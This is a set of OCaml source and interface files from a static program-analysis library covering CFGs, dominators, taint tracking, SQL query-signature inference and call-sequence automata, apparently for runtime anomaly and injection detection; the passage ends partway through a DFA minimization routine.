(** All dominators of a node, from the node itself up to the entry.
    Empty for unreachable nodes. *)

(** Dense deterministic automaton for O(1) factor-membership checks —
    the compiled form the scoring engine's static gate executes.

    Built from an {!Nfa} by subset construction over the factor
    language (the initial subset is {e every} state, since a window can
    start anywhere along a path) followed by Hopcroft minimization.
    Every live state is accepting; the single dead state is the
    constant [-1], so "the window is statically impossible" is exactly
    "the walk hit [-1]" — one array read per symbol. *)

type t

val of_nfa : ?max_states:int -> Nfa.t -> t
(** Determinize + minimize. [max_states] (default [100_000]) bounds the
    subset construction.
    @raise Invalid_argument when the bound is exceeded. *)

val nstates : t -> int
(** Live (accepting) states after minimization, excluding the implicit
    dead state. *)

val width : t -> int
(** Alphabet size. *)

val alphabet : t -> Symbol.t list
(** The transition alphabet, sorted. *)

val start : t -> int

val sym_code : t -> Symbol.t -> int option
(** Dense code of a symbol; [None] for symbols outside the alphabet
    (no path emits them, so any window containing one is rejected). *)

val step : t -> int -> int -> int
(** [step t state code]: one transition; [-1] is sticky (dead). *)

val accepts_factor : t -> Symbol.t list -> bool
(** Walk from {!start}; [false] iff the walk dies (including on any
    symbol outside the alphabet). The empty sequence is accepted. *)

val to_dot : t -> string
(** Graphviz rendering (dead state omitted). *)

(** The interprocedural call-sequence automaton: a finite automaton
    whose language over-approximates the library-call sequences the
    program can emit, compiled to a dense {!Dfa} for the scoring
    engine's static window gate.

    Construction (per function, on the {!Prune}d CFGs): CFG nodes
    become NFA states; an edge into a library-call node carries the
    call's observable symbol (both the labeled and unlabeled variants
    for DB-output sites, since the dynamic taint decides the label at
    runtime), every other edge — including the recorded loop back
    edges, so loops may repeat — is ε. User calls are spliced through
    {!Callgraph}: the call site ε-enters a callee instance and the
    callee's exit ε-returns to the site's successors. Call sites into
    distinct strongly-connected components get their own copies
    (call-site inlining); within an SCC all members share one instance,
    merging call and return points — the conservative collapse that
    keeps recursion finite. When inlining would exceed [state_budget],
    construction falls back to one shared instance per function (flat,
    linear-size, still sound).

    Windows are substrings of traces, so the gate language is the
    {e factor} language: {!accepts} asks "can this sequence appear
    somewhere along an execution?", and a [false] answer is a proof the
    program cannot produce the window. *)

type stats = {
  functions : int;  (** functions laid out (reachable from the entry) *)
  nfa_states : int;
  nfa_transitions : int;
  dfa_states : int;  (** after Hopcroft minimization *)
  dfa_width : int;  (** alphabet size *)
  flat : bool;  (** budget fallback taken *)
}

type t = {
  nfa : Nfa.t;
  dfa : Dfa.t;
  entry : string;
  use_labels : bool;
  stats : stats;
}

val build :
  ?entry:string ->
  ?use_labels:bool ->
  ?state_budget:int ->
  (string * Cfg.t) list ->
  Callgraph.t ->
  t
(** Build from (pruned) CFGs. [entry] defaults to ["main"]; when the
    entry is absent every function is a root (conservative).
    [use_labels false] strips DB-output labels from the transition
    symbols before determinizing — the view of a profile trained
    without labels. [state_budget] (default [20_000]) bounds the
    inlined NFA before the flat fallback. *)

val accepts : t -> Symbol.t list -> bool
(** Factor membership of an observable symbol sequence. Symbols are
    normalized ({!Symbol.observable}, labels stripped under
    [use_labels = false]) so runtime-collector events can be queried
    directly. *)

val stats_to_string : stats -> string

type t = {
  program : Applang.Ast.program;
  cfgs : (string * Cfg.t) list;
  callgraph : Callgraph.t;
  sites : Cfg.Sites.sites;
  taint : Taint.result;
  pruned_cfgs : (string * Cfg.t) list;
  pruning : Prune.report list;
  ctms : (string * Ctm.t) list;
  pctm : Ctm.t;
}

module Trace_ = Adprom_obs.Trace

let analyze ?(entry = "main") program =
  Trace_.with_span "analysis.analyze"
    ~attrs:(fun () -> [ ("entry", entry) ])
    (fun () ->
      let cfgs, sites =
        Trace_.with_span "analysis.cfg" (fun () -> Cfg_build.build_program program)
      in
      let callgraph =
        Trace_.with_span "analysis.callgraph" (fun () -> Callgraph.build cfgs)
      in
      let taint = Trace_.with_span "analysis.taint" (fun () -> Taint.analyze cfgs) in
      let pruned_cfgs, pruning =
        Trace_.with_span "analysis.prune" (fun () -> Prune.program cfgs)
      in
      let ctms =
        Trace_.with_span "analysis.forecast" (fun () -> Forecast.ctms pruned_cfgs)
      in
      let pctm =
        Trace_.with_span "analysis.ctm_aggregate" (fun () ->
            Aggregate.program_ctm ctms callgraph ~entry)
      in
      { program; cfgs; callgraph; sites; taint; pruned_cfgs; pruning; ctms; pctm })

let labeled_block t bid = List.mem bid t.taint.Taint.labeled_blocks

let block_of_call t expr = Cfg.Sites.block_of t.sites expr

let alphabet t = Ctm.calls t.pctm

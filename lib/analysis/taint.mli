(** Static data-dependency analysis (the paper's DDG, Sec. IV-A/IV-C1).

    A forward may-taint dataflow over each CFG — an instance of the
    generic {!Dataflow} engine, iterated with the real back edges so
    loop-carried flows are found — combined with interprocedural
    summaries: a user function may return targeted data either
    unconditionally (it contains a source) or conditionally on specific
    arguments being tainted.

    Summaries are {e per argument}: [param_taint.(i)] says whether
    taint entering through parameter [i] alone can reach the return
    value. This strictly refines the old whole-function boolean — a
    call [f(clean, dirty)] where only parameter 0 flows to the return
    no longer taints the result — so the per-argument labeling marks
    the same or fewer sinks, never more. [analyze ~per_arg:false]
    collapses every bit to the joint all-arguments answer, reproducing
    the coarse semantics (useful as a refinement baseline in tests).

    The result of [analyze] is the labeling: every output-statement call
    site whose arguments may carry DB-retrieved data gets
    [site.label <- Some block_id], turning e.g. [printf] into
    [printf_Q6] in both the CTMs and the run-time traces. *)

type summary = {
  const_taint : bool;  (** returns targeted data regardless of inputs *)
  param_taint : bool array;
      (** [param_taint.(i)]: returns targeted data when argument [i]
          is tainted; length = the function's parameter count *)
}

type result = {
  labeled_blocks : int list;  (** block ids labeled as DB-output sites, sorted *)
  summaries : (string * summary) list;
  entry_taint : (string * bool array) list;
      (** converged {e actual} may-taint of each function's parameters,
          joined over every call site — the entry assumptions the final
          labeling pass ran under. Entry points never called internally
          keep all-false. Sorted by function name. *)
}

val expr_taint :
  ?lib_taint:(string -> Applang.Libspec.taint_kind) ->
  tainted:(string -> bool) ->
  summary_of:(string -> summary option) ->
  Applang.Ast.expr ->
  bool
(** May the expression evaluate to targeted data, given the variable
    taint environment and user-function summaries? [lib_taint] selects
    the builtin taint table (default {!Applang.Libspec.taint_of}). *)

val analyze :
  ?per_arg:bool ->
  ?lib_taint:(string -> Applang.Libspec.taint_kind) ->
  ?label_sinks:bool ->
  (string * Cfg.t) list ->
  result
(** Runs the interprocedural fixpoint and {e mutates} the [label] field
    of sink call sites in the given CFGs. Idempotent. [per_arg]
    defaults to [true]; [false] computes whole-function boolean
    summaries (every [param_taint] bit equal), the pre-refinement
    behavior. [lib_taint] swaps the builtin polarity: the default tracks
    DB-retrieved data ({!Applang.Libspec.taint_of}); pass
    {!Applang.Libspec.untrusted_taint_of} to track attacker-controlled
    input instead — and pass [~label_sinks:false] in that case so the
    DB-polarity labels already applied to the shared mutable sites are
    left untouched (sink labeling under the injection polarity is
    meaningless; use the summaries and [entry_taint]). *)

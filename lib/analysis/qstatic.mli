(** Static query-signature inference (the query-axis counterpart of the
    call-sequence facts in {!Vet}).

    Abstract interpretation of SQL string construction over the CFGs
    with the {!Strdom} template domain: every
    [pq_exec]/[mysql_query]/[pq_prepare]/[mysql_prepare] call site
    reachable from the entry gets a finite over-approximating set of
    canonical query signatures (through the {!Sqldb} parser and the
    runtime canonicalizer, so static and dynamic signatures are
    comparable texts), plus an incompleteness flag and — when
    attacker-controlled input reaches the SQL text itself rather than a
    bound parameter — an injection witness path.

    Soundness contract: when a site is not [open_], every query the
    program can execute through it with {e literal-shaped}
    interpolated values (values that render as an SQL literal, not as
    structure) has its signature in [signatures]. Attack inputs that
    smuggle structure produce signatures outside the set — which is
    precisely what the enforce gate rejects. *)

type site = {
  func : string;
  block : int;  (** CFG node id of the call *)
  callee : string;
  prepare : bool;
      (** a [*_prepare] text: executions bind parameters, so the
          prepared signature covers the bound traffic too *)
  signatures : string list;  (** sorted canonical signatures *)
  open_ : bool;  (** the set may under-approximate *)
  malformed : bool;  (** a constant query text failed to parse *)
  injectable : string list option;
      (** witness: provenance chain of an untrusted value reaching the
          SQL text, source first *)
}

type result = {
  sites : site list;
  signatures : string list;  (** union over sites, sorted *)
  complete : bool;  (** no site is open *)
}

val infer : ?entry:string -> (string * Cfg.t) list -> result
(** Runs the injection-polarity {!Taint} fixpoint (without touching the
    DB-polarity sink labels) and then one {!Dataflow} pass per function
    reachable from [entry] (default ["main"]; if absent, every function
    is treated as a root, mirroring {!Vet.facts}). Prefer passing the
    pruned CFGs: statically dead branches would otherwise contribute
    phantom signatures. *)

type t = {
  entry : int;
  idoms : (int, int) Hashtbl.t;  (* node -> immediate dominator; entry maps to itself *)
  kids : (int, int list) Hashtbl.t;
}

(* Successors/predecessors of the full flow graph: the acyclic relation
   plus the recorded loop back edges. *)
let full_succs (cfg : Cfg.t) id =
  Cfg.successors cfg id
  @ List.filter_map (fun (src, dst) -> if src = id then Some dst else None) cfg.Cfg.back_edges

let full_preds (cfg : Cfg.t) id =
  Cfg.predecessors cfg id
  @ List.filter_map (fun (src, dst) -> if dst = id then Some src else None) cfg.Cfg.back_edges

(* Reverse postorder of the reachable subgraph, entry first. *)
let reverse_postorder cfg =
  let visited = Hashtbl.create 32 in
  let order = ref [] in
  let rec dfs id =
    if not (Hashtbl.mem visited id) then begin
      Hashtbl.replace visited id ();
      List.iter dfs (full_succs cfg id);
      order := id :: !order
    end
  in
  dfs cfg.Cfg.entry;
  !order

let compute (cfg : Cfg.t) =
  let rpo = reverse_postorder cfg in
  let rpo_num = Hashtbl.create 32 in
  List.iteri (fun i id -> Hashtbl.replace rpo_num id i) rpo;
  let idoms = Hashtbl.create 32 in
  Hashtbl.replace idoms cfg.Cfg.entry cfg.Cfg.entry;
  (* Walk both fingers up the current partial tree until they meet. *)
  let rec intersect a b =
    if a = b then a
    else
      let na = Hashtbl.find rpo_num a and nb = Hashtbl.find rpo_num b in
      if na > nb then intersect (Hashtbl.find idoms a) b
      else intersect a (Hashtbl.find idoms b)
  in
  let changed = ref true in
  while !changed do
    changed := false;
    List.iter
      (fun b ->
        if b <> cfg.Cfg.entry then begin
          let preds =
            List.filter
              (fun p -> Hashtbl.mem rpo_num p && Hashtbl.mem idoms p)
              (full_preds cfg b)
          in
          match preds with
          | [] -> ()
          | first :: rest ->
              let new_idom = List.fold_left intersect first rest in
              if Hashtbl.find_opt idoms b <> Some new_idom then begin
                Hashtbl.replace idoms b new_idom;
                changed := true
              end
        end)
      rpo
  done;
  let kids = Hashtbl.create 32 in
  Hashtbl.iter
    (fun node parent ->
      if node <> parent then
        let cur = match Hashtbl.find_opt kids parent with Some l -> l | None -> [] in
        Hashtbl.replace kids parent (node :: cur))
    idoms;
  { entry = cfg.Cfg.entry; idoms; kids }

let reachable t id = Hashtbl.mem t.idoms id

let idom t id =
  if id = t.entry then None else Hashtbl.find_opt t.idoms id

let dominates t a b =
  let rec up node = node = a || (node <> t.entry && up (Hashtbl.find t.idoms node)) in
  reachable t b && up b

let children t id =
  match Hashtbl.find_opt t.kids id with
  | Some l -> List.sort compare l
  | None -> []

let dominators t id =
  if not (reachable t id) then []
  else
    let rec up node acc =
      if node = t.entry then List.rev (t.entry :: acc)
      else up (Hashtbl.find t.idoms node) (node :: acc)
    in
    up id []

type call_site = {
  callee : string;
  args : Applang.Ast.expr list;
  call_expr : Applang.Ast.expr;
  is_user : bool;
  mutable label : int option;
}

type event =
  | E_entry
  | E_exit
  | E_call of call_site
  | E_bind of string * Applang.Ast.expr
  | E_cond of Applang.Ast.expr
  | E_return of Applang.Ast.expr option
  | E_join

type node = { id : int; func : string; event : event }

type branch = { cond : int; if_true : int; if_false : int }

type t = {
  func : string;
  params : string list;
  entry : int;
  exit : int;
  nodes : (int, node) Hashtbl.t;
  succs : (int, int list) Hashtbl.t;
  preds : (int, int list) Hashtbl.t;
  mutable back_edges : (int * int) list;
  mutable branches : branch list;
}

let node t id = Hashtbl.find t.nodes id

let successors t id = match Hashtbl.find_opt t.succs id with Some l -> l | None -> []
let predecessors t id = match Hashtbl.find_opt t.preds id with Some l -> l | None -> []

let node_ids t = List.sort compare (Hashtbl.fold (fun id _ acc -> id :: acc) t.nodes [])

let out_degree t id = List.length (successors t id)

let branch_of t id = List.find_opt (fun b -> b.cond = id) t.branches

let call_of_node t id =
  match (node t id).event with
  | E_call site -> Some site
  | E_entry | E_exit | E_bind _ | E_cond _ | E_return _ | E_join -> None

let call_nodes t =
  List.filter_map (fun id -> Option.map (fun s -> (id, s)) (call_of_node t id)) (node_ids t)

let symbol_of_site ~id site =
  if site.is_user then Symbol.Func site.callee
  else Symbol.Lib { name = site.callee; label = site.label; site = Some id }

let topological_order t =
  let in_degree = Hashtbl.create 16 in
  List.iter (fun id -> Hashtbl.replace in_degree id 0) (node_ids t);
  Hashtbl.iter
    (fun _ succs ->
      List.iter
        (fun s -> Hashtbl.replace in_degree s (Hashtbl.find in_degree s + 1))
        succs)
    t.succs;
  let ready = Queue.create () in
  List.iter (fun id -> if Hashtbl.find in_degree id = 0 then Queue.add id ready) (node_ids t);
  let order = ref [] in
  let count = ref 0 in
  while not (Queue.is_empty ready) do
    let id = Queue.pop ready in
    incr count;
    order := id :: !order;
    List.iter
      (fun s ->
        let d = Hashtbl.find in_degree s - 1 in
        Hashtbl.replace in_degree s d;
        if d = 0 then Queue.add s ready)
      (successors t id)
  done;
  if !count <> Hashtbl.length t.nodes then
    invalid_arg (Printf.sprintf "Cfg.topological_order: cycle in CFG of %s" t.func);
  List.rev !order

let is_dag t = match topological_order t with _ -> true | exception Invalid_argument _ -> false

let event_to_string = function
  | E_entry -> "entry"
  | E_exit -> "exit"
  | E_call site ->
      Printf.sprintf "call %s%s" site.callee
        (match site.label with Some bid -> Printf.sprintf "_Q%d" bid | None -> "")
  | E_bind (x, _) -> Printf.sprintf "bind %s" x
  | E_cond _ -> "cond"
  | E_return _ -> "return"
  | E_join -> "join"

let pp ppf t =
  Format.fprintf ppf "@[<v>cfg %s:@," t.func;
  List.iter
    (fun id ->
      Format.fprintf ppf "  %d [%s] -> %s@," id
        (event_to_string (node t id).event)
        (String.concat "," (List.map string_of_int (successors t id))))
    (node_ids t);
  if t.back_edges <> [] then
    Format.fprintf ppf "  back: %s@,"
      (String.concat ","
         (List.map (fun (a, b) -> Printf.sprintf "%d->%d" a b) t.back_edges));
  Format.fprintf ppf "@]"

module Sites = struct
  module Phys = Hashtbl.Make (struct
    type t = Applang.Ast.expr

    let equal = ( == )
    let hash = Hashtbl.hash
  end)

  type sites = int Phys.t

  let create () = Phys.create 64
  let register sites expr id = Phys.replace sites expr id
  let block_of sites expr = Phys.find_opt sites expr
end

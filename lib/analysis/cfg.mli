(** Control-flow graphs of AppLang functions.

    One graph per function (Sec. IV-A). Nodes are code blocks split so
    that each node issues {e at most one} call, which is the granularity
    the probability forecast needs: the transition probability of a call
    pair is the probability mass flowing over call-free paths between
    their nodes.

    For the static phase the graph is a DAG: loop back edges are
    {e redirected} to the loop's exit join ("each node is visited once",
    Sec. IV-C1 — loops are learned dynamically by the HMM). The original
    back edges are recorded separately in [back_edges]. *)

type call_site = {
  callee : string;
  args : Applang.Ast.expr list;
  call_expr : Applang.Ast.expr;  (** the physical [Call] sub-term *)
  is_user : bool;  (** callee is a user-defined function *)
  mutable label : int option;
      (** block id when the taint analysis marks this as a DB-output call *)
}

type event =
  | E_entry
  | E_exit
  | E_call of call_site
  | E_bind of string * Applang.Ast.expr  (** [x = e] after its calls ran *)
  | E_cond of Applang.Ast.expr  (** branch node: 2+ successors *)
  | E_return of Applang.Ast.expr option
  | E_join  (** call-free merge/skip node *)

type node = { id : int; func : string; event : event }

type branch = {
  cond : int;  (** the [E_cond] node *)
  if_true : int;  (** successor taken when the condition holds *)
  if_false : int;  (** successor taken when it does not *)
}
(** Which successor of a two-way branch is which. [if_true] and
    [if_false] may name the same node (both arms empty): the parallel
    edges then carry the roles by multiplicity. *)

type t = {
  func : string;
  params : string list;
  entry : int;
  exit : int;
  nodes : (int, node) Hashtbl.t;
  succs : (int, int list) Hashtbl.t;  (** DAG successors; duplicates = parallel edges *)
  preds : (int, int list) Hashtbl.t;
  mutable back_edges : (int * int) list;  (** original loop back edges *)
  mutable branches : branch list;  (** branch roles, one per [E_cond] node *)
}

val node : t -> int -> node
(** @raise Not_found on an unknown id. *)

val successors : t -> int -> int list
val predecessors : t -> int -> int list
val node_ids : t -> int list
(** All node ids, sorted ascending. *)

val out_degree : t -> int -> int

val branch_of : t -> int -> branch option
(** The recorded branch roles of an [E_cond] node, if any. *)

val call_of_node : t -> int -> call_site option

val call_nodes : t -> (int * call_site) list
(** Nodes bearing calls, in ascending id order. *)

val symbol_of_site : id:int -> call_site -> Symbol.t
(** [Func callee] for user calls, [Lib {name; label; site = Some id}]
    otherwise — CTM symbols are call-site-granular. *)

val topological_order : t -> int list
(** Topological order of the DAG, entry first.
    @raise Invalid_argument if a cycle survived construction. *)

val is_dag : t -> bool

val pp : Format.formatter -> t -> unit

(** Physical-identity map from [Call] expressions to the block id of the
    node issuing them. Shared with the interpreter so that run-time
    events carry the same block ids as the static labels. *)
module Sites : sig
  type sites

  val create : unit -> sites
  val register : sites -> Applang.Ast.expr -> int -> unit
  val block_of : sites -> Applang.Ast.expr -> int option
end

module Ast = Applang.Ast

type loop_ctx = {
  after : int;  (** join node following the loop *)
  cond : int;  (** loop condition node, target of real back edges *)
  continue_forward : int option;  (** for-loops: the step-entry join *)
}

type builder = {
  graph : Cfg.t;
  counter : int ref;
  user_funcs : string -> bool;
  sites : Cfg.Sites.sites;
  mutable frontier : int list;
  mutable loops : loop_ctx list;
}

let new_node b event =
  let id = !(b.counter) in
  incr b.counter;
  Hashtbl.replace b.graph.Cfg.nodes id { Cfg.id; func = b.graph.Cfg.func; event };
  id

let add_edge b src dst =
  let push tbl key v =
    let cur = match Hashtbl.find_opt tbl key with Some l -> l | None -> [] in
    Hashtbl.replace tbl key (cur @ [ v ])
  in
  push b.graph.Cfg.succs src dst;
  push b.graph.Cfg.preds dst src

let record_back_edge b src dst =
  b.graph.Cfg.back_edges <- b.graph.Cfg.back_edges @ [ (src, dst) ]

(* Record which successor of a finished two-way branch plays which
   role. Each construction phase below adds exactly one edge out of the
   condition node (the frontier leaves [cond] at the first attach), so
   the roles are fixed by edge order: [If] adds the then-edge first,
   loops add the exit edge first. *)
let record_branch b cond ~true_first =
  match Hashtbl.find_opt b.graph.Cfg.succs cond with
  | Some [ a; b_ ] ->
      let if_true, if_false = if true_first then (a, b_) else (b_, a) in
      b.graph.Cfg.branches <-
        b.graph.Cfg.branches @ [ { Cfg.cond; if_true; if_false } ]
  | Some _ | None -> ()

(* Connect every pending frontier node to [id] and make [id] the new
   frontier. *)
let attach b id =
  List.iter (fun f -> add_edge b f id) b.frontier;
  b.frontier <- [ id ]

(* One node per call of [expr], in evaluation order. *)
let emit_calls b expr =
  let emit call_expr =
    match call_expr with
    | Ast.Call (callee, args) ->
        let site =
          { Cfg.callee; args; call_expr; is_user = b.user_funcs callee; label = None }
        in
        let id = new_node b (Cfg.E_call site) in
        Cfg.Sites.register b.sites call_expr id;
        attach b id
    | Ast.Int _ | Ast.Str _ | Ast.Bool _ | Ast.Null | Ast.Var _
    | Ast.Binop _ | Ast.Unop _ | Ast.Index _ ->
        assert false
  in
  List.iter emit (Ast.calls_in_expr expr)

let rec build_stmt b stmt =
  match stmt with
  | Ast.Let (x, e) | Ast.Assign (x, e) ->
      emit_calls b e;
      attach b (new_node b (Cfg.E_bind (x, e)))
  | Ast.Expr e -> emit_calls b e
  | Ast.Return eo ->
      (match eo with Some e -> emit_calls b e | None -> ());
      let r = new_node b (Cfg.E_return eo) in
      attach b r;
      add_edge b r b.graph.Cfg.exit;
      b.frontier <- []
  | Ast.Break -> (
      match b.loops with
      | [] -> () (* break outside a loop: ignore, like dead code *)
      | ctx :: _ ->
          List.iter (fun f -> add_edge b f ctx.after) b.frontier;
          b.frontier <- [])
  | Ast.Continue -> (
      match b.loops with
      | [] -> ()
      | ctx :: _ ->
          let target = match ctx.continue_forward with Some j -> j | None -> ctx.after in
          List.iter
            (fun f ->
              add_edge b f target;
              record_back_edge b f ctx.cond)
            b.frontier;
          b.frontier <- [])
  | Ast.If (cond, then_, else_) ->
      emit_calls b cond;
      let c = new_node b (Cfg.E_cond cond) in
      attach b c;
      let j = new_node b Cfg.E_join in
      b.frontier <- [ c ];
      build_block b then_;
      List.iter (fun f -> add_edge b f j) b.frontier;
      b.frontier <- [ c ];
      build_block b else_;
      List.iter (fun f -> add_edge b f j) b.frontier;
      record_branch b c ~true_first:true;
      b.frontier <- [ j ]
  | Ast.While (cond, body) ->
      emit_calls b cond;
      let c = new_node b (Cfg.E_cond cond) in
      attach b c;
      let after = new_node b Cfg.E_join in
      add_edge b c after;
      b.frontier <- [ c ];
      b.loops <- { after; cond = c; continue_forward = None } :: b.loops;
      build_block b body;
      (* Statically the body runs once and falls through to [after];
         the real back edge to [c] is recorded on the side. *)
      List.iter
        (fun f ->
          add_edge b f after;
          record_back_edge b f c)
        b.frontier;
      b.loops <- List.tl b.loops;
      record_branch b c ~true_first:false;
      b.frontier <- [ after ]
  | Ast.For (init, cond, step, body) ->
      build_stmt b init;
      emit_calls b cond;
      let c = new_node b (Cfg.E_cond cond) in
      attach b c;
      let after = new_node b Cfg.E_join in
      add_edge b c after;
      let step_entry = new_node b Cfg.E_join in
      b.frontier <- [ c ];
      b.loops <- { after; cond = c; continue_forward = Some step_entry } :: b.loops;
      build_block b body;
      List.iter (fun f -> add_edge b f step_entry) b.frontier;
      b.loops <- List.tl b.loops;
      b.frontier <- [ step_entry ];
      build_stmt b step;
      List.iter
        (fun f ->
          add_edge b f after;
          record_back_edge b f c)
        b.frontier;
      record_branch b c ~true_first:false;
      b.frontier <- [ after ]

and build_block b stmts = List.iter (build_stmt b) stmts

let build_function ~counter ~user_funcs ~sites (f : Ast.func) =
  let graph =
    {
      Cfg.func = f.Ast.name;
      params = f.Ast.params;
      entry = -1;
      exit = -1;
      nodes = Hashtbl.create 32;
      succs = Hashtbl.create 32;
      preds = Hashtbl.create 32;
      back_edges = [];
      branches = [];
    }
  in
  let b = { graph; counter; user_funcs; sites; frontier = []; loops = [] } in
  let entry = new_node b Cfg.E_entry in
  let exit = new_node b Cfg.E_exit in
  let graph = { graph with Cfg.entry; exit } in
  let b = { b with graph } in
  b.frontier <- [ entry ];
  build_block b f.Ast.body;
  List.iter (fun fr -> add_edge b fr exit) b.frontier;
  b.frontier <- [];
  graph

let build_program (p : Ast.program) =
  let counter = ref 0 in
  let sites = Cfg.Sites.create () in
  let names = Ast.func_names p in
  let user_funcs n = List.mem n names in
  let cfgs =
    List.map (fun f -> (f.Ast.name, build_function ~counter ~user_funcs ~sites f)) p.Ast.funcs
  in
  (cfgs, sites)

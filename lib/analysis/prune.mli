(** Branch-feasibility prepass: constant + copy propagation over the
    {!Dataflow} engine, pruning statically dead CFG edges.

    A branch whose condition evaluates to a constant under the
    propagated environment can take only one arm; the other edge is
    removed and everything that becomes unreachable from the entry is
    dropped. For a loop header whose condition is constantly {e true}
    the fictional latch fall-through edges (the DAG's "body runs once"
    exits) are removed too — at runtime such a loop is only left
    through a [break]. The pass iterates to a fixpoint: removing a dead
    arm can sharpen the constants seen at a later join and expose
    further dead branches.

    Soundness: the propagation runs {e with} the recorded loop back
    edges, so loop-carried reassignments join their targets to unknown
    and bounded loops keep both arms. Only edges no execution can take
    are removed; the pruned graph therefore still over-approximates the
    program's behaviour, which is what both the probability forecast
    ({!Forecast.ctm} on pruned graphs sharpens transition mass onto
    feasible edges) and the call-sequence automaton ({!Seqauto}) need.

    The pruned graph is a fresh {!Cfg.t} sharing the original (mutable)
    node records, so DB-output labels applied by {!Taint} remain
    visible through either view. *)

type report = {
  func : string;
  removed_edges : (int * int) list;
      (** removed edge occurrences (parallel edges count once each),
          including latch fall-throughs of constantly-true loops *)
  dead_nodes : int list;  (** nodes no longer reachable from the entry *)
}

val function_cfg : Cfg.t -> Cfg.t * report
(** Prune one function's graph. Returns the input graph itself (and an
    empty report) when nothing is removable. *)

val program : (string * Cfg.t) list -> (string * Cfg.t) list * report list
(** {!function_cfg} over every function, preserving order. *)

val total_removed : report list -> int
(** Total removed edges across the reports. *)

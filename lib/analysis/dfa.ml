type t = {
  syms : Symbol.t array;
  index : int Symbol.Table.t;
  start : int;
  nstates : int;
  trans : int array;  (* nstates * width, row-major; -1 = dead *)
}

let nstates t = t.nstates
let width t = Array.length t.syms
let alphabet t = Array.to_list t.syms
let start t = t.start

let sym_code t sym = Symbol.Table.find_opt t.index sym

let step t state code =
  if state < 0 then -1 else Array.unsafe_get t.trans ((state * Array.length t.syms) + code)

let accepts_factor t word =
  let rec go state = function
    | [] -> state >= 0
    | sym :: rest -> (
        if state < 0 then false
        else
          match sym_code t sym with
          | None -> false
          | Some c -> go (step t state c) rest)
  in
  go t.start word

(* --- bitsets over NFA states -------------------------------------------- *)

module Bits = struct
  let create n = Array.make ((n + 62) / 63) 0
  let get b i = b.(i / 63) land (1 lsl (i mod 63)) <> 0
  let set b i = b.(i / 63) <- b.(i / 63) lor (1 lsl (i mod 63))
  let is_empty b = Array.for_all (fun w -> w = 0) b

  let iter f b =
    Array.iteri
      (fun wi w ->
        if w <> 0 then
          for bit = 0 to 62 do
            if w land (1 lsl bit) <> 0 then f ((wi * 63) + bit)
          done)
      b

  let equal (a : int array) b = a = b

  let hash (b : int array) =
    let h = ref 0x811c9dc5 in
    Array.iter (fun v -> h := (!h lxor v) * 0x01000193 land max_int) b;
    !h
end

module Set_tbl = Hashtbl.Make (struct
  type t = int array

  let equal = Bits.equal
  let hash = Bits.hash
end)

(* --- subset construction over the factor language ----------------------- *)

let determinize ?(max_states = 100_000) (nfa : Nfa.t) =
  let syms = Array.of_list nfa.Nfa.alphabet in
  let w = Array.length syms in
  let index = Symbol.Table.create (max 1 (2 * w)) in
  Array.iteri (fun i s -> Symbol.Table.replace index s i) syms;
  (* per (state, symbol) NFA move table *)
  let moves = Array.make (max 1 (nfa.Nfa.nstates * max 1 w)) [] in
  Array.iteri
    (fun s l ->
      List.iter
        (fun (sym, d) ->
          let c = Symbol.Table.find index sym in
          moves.((s * w) + c) <- d :: moves.((s * w) + c))
        l)
    nfa.Nfa.delta;
  let close set =
    let stack = ref [] in
    Bits.iter (fun s -> stack := s :: !stack) set;
    while !stack <> [] do
      match !stack with
      | [] -> ()
      | s :: rest ->
          stack := rest;
          List.iter
            (fun d ->
              if not (Bits.get set d) then begin
                Bits.set set d;
                stack := d :: !stack
              end)
            nfa.Nfa.eps.(s)
    done
  in
  let ids = Set_tbl.create 256 in
  let subsets = ref [] and nsubsets = ref 0 in
  let work = Queue.create () in
  let intern set =
    match Set_tbl.find_opt ids set with
    | Some id -> id
    | None ->
        let id = !nsubsets in
        if id >= max_states then
          invalid_arg "Dfa.of_nfa: subset construction exceeded max_states";
        incr nsubsets;
        Set_tbl.replace ids set id;
        subsets := set :: !subsets;
        Queue.add (id, set) work;
        id
  in
  (* a factor can start anywhere: the initial subset is every state *)
  let start_set = Bits.create nfa.Nfa.nstates in
  for s = 0 to nfa.Nfa.nstates - 1 do
    Bits.set start_set s
  done;
  close start_set;
  let start = intern start_set in
  let rows = ref [] in
  while not (Queue.is_empty work) do
    let id, set = Queue.pop work in
    let row = Array.make w (-1) in
    for c = 0 to w - 1 do
      let next = Bits.create nfa.Nfa.nstates in
      Bits.iter
        (fun s -> List.iter (fun d -> Bits.set next d) moves.((s * w) + c))
        set;
      if not (Bits.is_empty next) then begin
        close next;
        row.(c) <- intern next
      end
    done;
    rows := (id, row) :: !rows
  done;
  let n = !nsubsets in
  let trans = Array.make (max 1 (n * max 1 w)) (-1) in
  List.iter
    (fun (id, row) -> Array.blit row 0 trans (id * w) w)
    !rows;
  { syms; index; start; nstates = n; trans }

(* --- Hopcroft minimization ---------------------------------------------- *)

(* All live states are accepting and the dead state is the only
   non-accepting one, so minimization starts from that two-block
   partition and refines by transition behaviour. *)
let minimize dfa =
  let w = Array.length dfa.syms in
  let n = dfa.nstates in
  if n <= 1 || w = 0 then dfa
  else begin
    let total = n + 1 in
    let dead = n in
    let delta s c = if s = dead then dead else match dfa.trans.((s * w) + c) with -1 -> dead | d -> d in
    (* inverse transitions: inv.(c * total + q) = predecessors of q on c *)
    let inv = Array.make (w * total) [] in
    for s = 0 to total - 1 do
      for c = 0 to w - 1 do
        let q = delta s c in
        inv.((c * total) + q) <- s :: inv.((c * total) + q)
      done
    done;
    let class_of = Array.make total 0 in
    class_of.(dead) <- 1;
    let members = Array.make total [] in
    members.(0) <- List.init n (fun i -> i);
    members.(1) <- [ dead ];
    let sizes = Array.make total 0 in
    sizes.(0) <- n;
    sizes.(1) <- 1;
    let nblocks = ref 2 in
    let in_w = Array.make (total * w) false in
    let work = Queue.create () in
    let push b c =
      if not (in_w.((b * w) + c)) then begin
        in_w.((b * w) + c) <- true;
        Queue.add (b, c) work
      end
    in
    for c = 0 to w - 1 do
      push (if sizes.(0) <= sizes.(1) then 0 else 1) c
    done;
    let marked = Array.make total 0 in
    while not (Queue.is_empty work) do
      let a, c = Queue.pop work in
      in_w.((a * w) + c) <- false;
      (* X = states leading into block [a] on symbol [c] *)
      let x_mem = Array.make total false in
      List.iter
        (fun q -> List.iter (fun p -> x_mem.(p) <- true) inv.((c * total) + q))
        members.(a);
      let affected = ref [] in
      Array.iteri
        (fun p in_x ->
          if in_x then begin
            let y = class_of.(p) in
            if marked.(y) = 0 then affected := y :: !affected;
            marked.(y) <- marked.(y) + 1
          end)
        x_mem;
      List.iter
        (fun y ->
          let hits = marked.(y) in
          marked.(y) <- 0;
          if hits > 0 && hits < sizes.(y) then begin
